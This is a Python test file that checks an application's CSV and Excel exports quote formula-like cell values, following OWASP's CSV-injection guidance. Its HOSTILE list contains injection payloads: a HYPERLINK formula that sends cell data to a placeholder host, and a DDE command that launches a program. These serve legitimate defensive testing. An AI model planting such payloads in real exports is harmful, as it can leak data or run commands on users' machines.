"""Every CSV and xlsx export writes formula-like text as text (OWASP's CSV-injection rule)."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook

from qifutong.exports import csv_cell, csv_text, formula_like, new_workbook, sheet_title
from qifutong.extensions import db

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&C5,"续租确认")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_neutralised_in_csv(text):
    assert formula_like(text)
    assert csv_cell(text) == "'" + text
    assert csv_cell("杭州示例科技有限公司") == "杭州示例科技有限公司"
    assert csv_cell(-5) == -5  # numbers stay numbers
    row = next(csv.reader(io.StringIO(csv_text(["a"], [[text]], bom=False))))
    assert row == ["a"]


@pytest.mark.parametrize(
    ("title", "expected"),
    [("租赁流转/到期", "租赁流转_到期"), ("a[b]:c*d?e\\f", "a_b__c_d_e_f"), ("", "Sheet1"),
     ("x" * 40, "x" * 31), ("'quoted'", "quoted")],
)  # fmt: skip
def test_sheet_titles_are_ones_excel_accepts(title, expected):
    assert sheet_title(title) == expected
    _book, sheet = new_workbook(title)
    assert sheet.title == expected


def _text_cells(data: bytes) -> dict[str, tuple[str, bool]]:
    """Every string cell of every sheet: value → (data type, quote prefix)."""
    book = load_workbook(io.BytesIO(data))
    out = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    out[cell.value] = (cell.data_type, bool(cell.quotePrefix))
    return out


def _assert_text(cells: dict[str, tuple[str, bool]], *values: str) -> None:
    for value in values:
        assert cells[value] == ("s", True), value


def test_lease_warning_workbook(app, client, login, make_user, make_building):
    from buildings.models import Lease, Unit
    from buildings.queries import warning_settings

    building = make_building()
    unit = Unit(building_id=building.id, floor="5", room="501", area=100.0)
    db.session.add(unit)
    db.session.flush()
    end = warning_settings(app.config)[0] + timedelta(days=10)
    db.session.add(
        Lease(unit_id=unit.id, tenant_name=HOSTILE[0], start_on=end - timedelta(days=700),
              end_on=end, area=100.0, status="active", intent="renew", intent_note=HOSTILE[1])
    )  # fmt: skip
    db.session.commit()
    login(make_user("building", building_ids=[building.id]))
    res = client.get("/building/warnings.xlsx")
    assert res.status_code == 200
    _assert_text(_text_cells(res.data), HOSTILE[0], HOSTILE[1])


@pytest.mark.parametrize("key", ["firms_total", "key_firms", "lease_flows"])
def test_cockpit_records_workbooks(app, client, login, make_user, make_firm, key):
    make_firm(name="=1+1", grade="A", tax_here=True)
    login(make_user("street"))
    res = client.get(f"/cockpit/records/{key}.xlsx")
    assert res.status_code == 200  # lease_flows: its title holds a "/"
    cells = _text_cells(res.data)
    if key != "lease_flows":
        _assert_text(cells, "=1+1")


def test_policy_audience_csv(app, client, login, make_user, make_firm):
    from policies.models import Policy
    from qifutong.matching.criteria import criteria_json, parse_criteria

    make_firm(name="=cmd|' /C calc'!A0")
    must = [{"field": "industry_code", "op": "in", "value": ["I"], "kind": "must"}]
    policy = Policy(title="信息业可享", criteria=criteria_json(parse_criteria(must)), tags=[],
                    status="draft", payout_mode="auto")  # fmt: skip
    db.session.add(policy)
    db.session.commit()
    login(make_user("street"))
    res = client.get(f"/street/policies/{policy.id}/audience.csv")
    rows = list(csv.reader(io.StringIO(res.get_data(as_text=True).lstrip("\ufeff"))))
    assert [r[1] for r in rows[1:]] == ["'=cmd|' /C calc'!A0"]


def test_firm_export_csv(app, make_firm, tmp_path):
    from qifutong.enterprises.export import export_enterprises

    make_firm(name="@SUM(A1)", registered_address="-2+3")
    export_enterprises(tmp_path / "firms.csv")
    with (tmp_path / "firms.csv").open(encoding="utf-8") as fh:
        row = next(csv.DictReader(fh))
    assert (row["name"], row["registered_address"]) == ("'@SUM(A1)", "'-2+3")


def test_roster_import_report(tmp_path):
    from qifutong.spreadsheets.report import ReportLine, write_report

    path = write_report(
        tmp_path / "r.xlsx",
        [ReportLine("a.xlsx", 3, "name", HOSTILE[1], "企业名称", "rejected")],
        review=[{"id": 1, "left": "+1+1", "right": "-2+3", "score": 0.9}],
        summary={"=1": "=2"},
    )
    _assert_text(_text_cells(Path(path).read_bytes()), HOSTILE[1], "+1+1", "-2+3", "=1", "=2")


def test_import_problem_report(tmp_path):
    """The lease, statistics and figures imports share one problem report."""
    from qifutong.imports.batches import Problem, write_problems

    path = write_problems(
        tmp_path / "r.csv",
        "=a.csv",
        [
            Problem(2, "租户", "不能为空", "=1+1"),
            Problem(3, "数值", "不是数字", "-2", file_name="b.csv"),
        ],
    )
    with path.open(encoding="utf-8-sig") as fh:
        rows = list(csv.reader(fh))
    assert rows[1] == ["'=a.csv", "2", "租户", "不能为空", "'=1+1"]
    assert rows[2] == ["b.csv", "3", "数值", "不是数字", "'-2"]
